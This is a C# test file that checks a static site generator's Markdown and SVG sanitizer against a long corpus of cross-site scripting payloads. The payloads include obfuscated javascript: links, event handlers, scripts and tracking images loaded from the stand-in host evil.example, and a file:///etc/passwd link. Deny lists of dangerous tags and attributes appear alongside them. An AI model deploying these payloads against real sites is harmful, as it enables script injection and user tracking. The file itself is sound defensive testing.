using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using StaticSite.Model;
using StaticSite.Parse;
using StaticSite.Parse.Html;

namespace StaticSite.Tests.Parse;

/// <summary>Whatever an author writes, nothing that runs or loads reaches a page: it is removed with a warning, or it is inert text.</summary>
public class HostileInputTests
{
    public static readonly TheoryData<string> Markdown =
    [
        // Raw HTML: elements.
        "<script>alert(1)</script>",
        "text <script>alert(1)</script> text",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<script>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<div><script>alert(1)</script></div>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input name=a><button formaction=javascript:alert(1)>x</button></form>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title></title><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<body onload=alert(1)>",
        "<html><head><script>alert(1)</script></head></html>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video src=x onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/track.gif\">",
        "<input autofocus onfocus=alert(1)>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE html [<!ENTITY x \"<script>\">]>",

        // Raw HTML: attributes.
        "<p onclick=alert(1)>x</p>",
        "<p/onclick=alert(1)>x</p>",
        "<b ONMOUSEOVER=\"alert(1)\">x</b>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div title=\"a\"onclick=alert(1)>x</div>",
        "<div title='\"><script>alert(1)</script>'>x</div>",
        "<div title=\"\n\n\" onclick=\"alert(1)\n\n\">x</div>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#1;javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<a href=\"//evil.example\" target=_blank ping=\"https://evil.example\">x</a>",

        // Attribute lists.
        "x {onclick=alert(1)}",
        "x {style=\"position:fixed\"}",
        "[x](https://example.org){onmouseover=\"alert(1)\"}",
        "[x](https://example.org){href=\"javascript:alert(1)\"}",
        "![x](a.svg){onerror=alert(1) src=\"https://evil.example/a.png\" srcset=x}",
        "# x {onclick=alert(1)}",
        "*x*{title='\" onclick=\"alert(1)' onfocus=alert(1)}",
        "::: note {onclick=alert(1)}\nx\n:::",
        "x {#a\"onclick=alert(1)}",
        "x {.a\"><script>alert(1)</script>}",

        // Link targets.
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](javascript&colon;alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](java\u200Bscript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/track.gif)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x](https://example.org/\"onmouseover=\"alert(1))",
        "[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
        "https://example.org/\"onmouseover=\"alert(1)",
        "https://example.org/'><script>alert(1)</script>",
        "10.1234/\"><script>alert(1)</script>",

        // Slots and code.
        "&#xFDD0;0&#xFDD1; <b title=\"&#xFDD0;0&#xFDD1;\">&#xFDD0;0&#xFDD1;</b> [x](../a/)",
        "```\"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "::: \"><script>alert(1)</script>\nx\n:::",
        "::: note \"><script>alert(1)</script>\nx\n:::",
    ];

    public static readonly TheoryData<string> Svg =
    [
        "<script>alert(1)</script>",
        "<script href=\"https://evil.example/x.js\"/>",
        "<style>@import url(https://evil.example)</style>",
        "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></body></foreignObject>",
        "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>",
        "<g onload=\"alert(1)\"/>",
        "<rect style=\"fill:url(https://evil.example/#a)\"/>",
        "<a href=\"javascript:alert(1)\"><text>x</text></a>",
        "<a xlink:href=\"javascript:alert(1)\"><text>x</text></a>",
        "<a href=\"https://evil.example\"><text>x</text></a>",
        "<use href=\"https://evil.example/x.svg#a\"/>",
        "<use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/>",
        "<image href=\"https://evil.example/track.gif\"/>",
        "<feImage href=\"https://evil.example/track.gif\"/>",
        "<rect fill=\"url(https://evil.example/#a)\"/>",
        "<rect fill=\"URL(//evil.example)\"/>",
        "<rect fill=\"u\\72l(https://evil.example)\"/>",
        "<rect filter=\"url(#a) url(https://evil.example/#b)\"/>",
        "<animate attributeName=\"href\" to=\"javascript:alert(1)\"/>",
        "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
        "<rect id=\"a\" fill=\"&quot; onload=&quot;alert(1)\" />",
        "<iframe src=\"javascript:alert(1)\"/>",
    ];

    [Theory]
    [MemberData(nameof(Markdown))]
    public void Nothing_hostile_in_a_text_reaches_the_page(string markdown)
    {
        var (body, diagnostics) = MarkdownParser.Parse(new SourceFile("input/articles/a/zh.md", markdown), 0, new TermSources("x", [], null));
        AssertHarmless(body.Body.Html);
        Assert.DoesNotContain("&#xFDD", body.Body.Html, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(body.Body.Slots.Length, body.Body.Html.Count(c => c == SlotMark.Open));
        foreach (var slot in body.Body.Slots)
        {
            Assert.True(slot is not LinkStartSlot link || AllowList.Judge(link.Target) == UrlKind.Internal);
            Assert.True(slot is not ImageSlot image || AllowList.Judge(image.File) == UrlKind.Internal);
        }

        AssertWarnedOrText(markdown, body.Body.Html, diagnostics);
    }

    [Theory]
    [MemberData(nameof(Markdown))]
    public void Nothing_hostile_in_a_short_text_reaches_the_page(string markdown)
    {
        var place = new SourceSpan("input/data/disclaimers.yml", 3, 1);
        var (html, diagnostics) = MarkdownParser.ParseFragment(new SourceFile(place.Path, "a: b"), new Located<string>(markdown, place));
        AssertHarmless(html);
        Assert.DoesNotContain(SlotMark.Open, html);
        Assert.All(diagnostics, diagnostic => Assert.Equal(place, diagnostic.Where));
    }

    [Theory]
    [MemberData(nameof(Svg))]
    public void Nothing_hostile_in_a_drawing_reaches_the_page(string content)
    {
        var text = $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 1 1\">{content}</svg>";
        var (svg, diagnostics) = SvgCleaner.Clean(new SourceFile("input/articles/a/f.svg", text), "f.svg");
        Assert.NotNull(svg);
        AssertHarmless(svg.Html.Load());
        AssertWarnedOrText(content, svg.Html.Load(), diagnostics);
    }

    private static void AssertHarmless(string html)
    {
        var parser = new HtmlParser();
        var context = parser.ParseDocument("").CreateElement("div");
        var elements = parser.ParseFragment(html, context).OfType<IElement>().SelectMany(root => root.QuerySelectorAll("*").Prepend(root));
        foreach (var element in elements)
        {
            Assert.DoesNotContain(
                element.LocalName,
                (string[])["script", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "img", "image", "feimage", "foreignobject", "animate", "set", "frame", "video", "audio", "template", "noscript"]);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
                Assert.DoesNotContain(attribute.LocalName, (string[])["style", "src", "srcset", "srcdoc", "background", "ping", "target", "action", "formaction"]);
                Assert.True(attribute.LocalName is not ("href" or "cite") || AllowList.Judge(attribute.Value) != UrlKind.Refused, attribute.Value);
                Assert.DoesNotContain("evil.example", element.NamespaceUri == "http://www.w3.org/2000/svg" ? attribute.Value : "", StringComparison.Ordinal);
            }
        }
    }

    /// <summary>Either somebody is told, or the words are there to be read, or all of it is a comment.</summary>
    private static void AssertWarnedOrText(string source, string html, IReadOnlyCollection<Diagnostic> diagnostics)
    {
        if (diagnostics.Count > 0 || (source.StartsWith("<!--", StringComparison.Ordinal) && string.IsNullOrWhiteSpace(html)))
        {
            return;
        }

        var parser = new HtmlParser();
        var text = parser.ParseDocument(html).Body!;
        Assert.True(
            text.TextContent.Contains("alert(1)", StringComparison.Ordinal) || text.TextContent.Contains("script:", StringComparison.Ordinal)
                || text.QuerySelectorAll("[title],[href],[class],[fill]").Length > 0 || html.Contains('\uFFFD'),
            $"{source} became {html}");
    }
}
